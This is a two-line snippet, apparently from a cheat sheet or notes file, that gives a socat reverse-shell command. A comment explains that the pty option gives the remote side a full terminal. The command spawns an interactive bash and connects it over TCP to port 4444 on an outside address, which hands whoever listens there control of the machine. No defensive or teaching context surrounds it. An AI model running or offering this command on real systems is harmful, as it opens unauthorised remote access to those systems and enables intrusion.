# reverse-shell: socat with a pty gives the remote side a full terminal
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:198.51.100.23:4444
